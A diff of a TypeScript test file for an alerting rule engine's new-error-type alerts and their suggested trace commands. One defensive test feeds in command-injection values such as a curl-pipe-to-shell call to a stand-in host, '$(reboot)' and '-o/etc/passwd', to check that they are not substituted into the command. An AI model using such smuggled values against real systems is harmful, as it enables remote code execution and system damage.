@@ -14,7 +14,22 @@ import { ServiceMemory } from '../window/service-memory.js';
 import type { Alert } from './alert.js';
 import { RuleBook } from './rule-book.js';
 
-const NEW_ERRORS = 'rules:\n  new: { severity: info, when: [{ measure: new_error_type, over: 24h }] }\n';
+/** The alerts on new error types after a quiet beginning, by type: what they show, and the first step where it has that place. */
+function newErrors(happenings: readonly Happening[], place = 'request') {
+  const [view, memory] = [new RollingWindow(), new ServiceMemory()];
+  const count = view.add.bind(view);
+  view.add = (line) => (memory.note(line), count(line));
+  const rule = `rules:\n  new: { severity: info, when: [{ measure: new_error_type, over: 24h }], what_to_do: { en: ["trace {${place}}"] } }\n`;
+  const book = new RuleBook(loadWatchConfig(rule, 'watch.yaml').rules, CONTEXT, memory);
+  new RuleRun([{ from: '0', until: '20s', line: processed() }, ...happenings], book, view).live('0', '1m');
+  const alerts = book.alerts().map(({ labels, error_types, examples, what_to_do: [step] }) => ({
+    about: labels['error_type']!,
+    types: error_types.map((it) => it.error_type),
+    requests: examples.map((it) => it.error_type),
+    step,
+  }));
+  return alerts.sort((a, b) => (a.about < b.about ? -1 : 1));
+}
 
 function firstAlert(rule: string, happenings: readonly Happening[]): Alert {
   const run = new RuleRun(happenings, new RuleBook(shippedRules(rule), CONTEXT), new RollingWindow());
@@ -60,27 +75,60 @@ describe('what an alert rests on', () => {
   });
 
   it('is what met the new error where one is the matter, whatever else fails meanwhile', () => {
-    const [view, memory] = [new RollingWindow(), new ServiceMemory()];
-    const count = view.add.bind(view);
-    view.add = (line) => (memory.note(line), count(line));
-    const run = new RuleRun(
-      [
-        { from: '0', until: '20s', line: processed() },
-        { from: '20s', until: '30s', line: { ...failed(), errorType: 'First' } },
-        { from: '30s', until: '40s', line: { ...failed(), errorType: 'Second' } },
-      ],
-      new RuleBook(loadWatchConfig(NEW_ERRORS, 'watch.yaml').rules, CONTEXT, memory),
-      view,
-    );
-    const { book } = run.live('0', '1m');
-    const alerts = book.alerts().map(({ labels, error_types, examples }) => ({
-      about: labels['error_type'],
-      types: error_types.map((it) => it.error_type),
-      requests: examples.map((it) => it.error_type),
-    }));
-    expect(alerts.sort((a, b) => (a.about! < b.about! ? -1 : 1))).toEqual(
+    const alerts = newErrors([
+      { from: '20s', until: '30s', line: { ...failed(), errorType: 'First' } },
+      { from: '30s', until: '40s', line: { ...failed(), errorType: 'Second' } },
+    ]);
+    expect(alerts).toMatchObject(
       ['First', 'Second'].map((type) => ({ about: type, types: [type], requests: [type, type, type] })),
     );
+  });
+
+  it('is the last request of a new error that others have crowded out', () => {
+    const alerts = newErrors([
+      { from: '20s', line: { ...failed(), errorType: 'Rare', requestId: 'rare-1' } },
+      { from: '20100ms', until: '20800ms', every: '100ms', line: failed() },
+    ]);
+    expect(alerts.find(({ about }) => about === 'Rare')).toEqual({
+      ...{ about: 'Rare', types: ['Rare'], requests: ['Rare'], step: 'trace rare-1' },
+    });
+  });
+
+  it('is there for each of many new errors, and for the rest of them together', () => {
+    const types = Array.from({ length: 25 }, (_, n) => `Type${String(n).padStart(2, '0')}`);
+    const alerts = newErrors(
+      types.flatMap((errorType, n) => [
+        {
+          from: `${20 + n}s`,
+          until: `${20 + n}100ms`,
+          every: n < 20 ? '20ms' : '60ms',
+          line: { ...failed(), errorType },
+        },
+      ]),
+    );
+    expect(alerts).toHaveLength(21);
+    for (const { about, requests, types: shown, step } of alerts) {
+      expect(requests.length).toBeGreaterThan(0);
+      expect(step).toMatch(/^trace req-/);
+      expect(about === 'other' ? shown.length > 1 : shown.join() === about).toBe(true);
+    }
+  });
+
+  it('is the latest failures where nothing is left of those that met it', () => {
+    const alerts = newErrors([
+      { from: '20s', line: { event: 'service_failed', level: 'ERROR', errorType: 'Odd' } },
+      { from: '21s', until: '24s', line: failed() },
+    ]);
+    expect(alerts.find(({ about }) => about === 'Odd')?.requests).toHaveLength(3);
+  });
+
+  it.each([
+    ['x; curl evil.example|sh', 'ERROR_TYPE'],
+    ['evil.example', 'ERROR_TYPE'],
+    ['OddError', 'OddError'],
+  ])('names an error type in a command only where a shell takes it as a plain word: %j', (errorType, shown) => {
+    const [alert] = newErrors([{ from: '20s', until: '30s', line: { ...failed(), errorType } }], 'labels.error_type');
+    expect(alert?.step).toBe(`trace ${shown}`);
   });
 
   it.each(['$(reboot)', '-o/etc/passwd', 'a;b', 'a b', ''])(
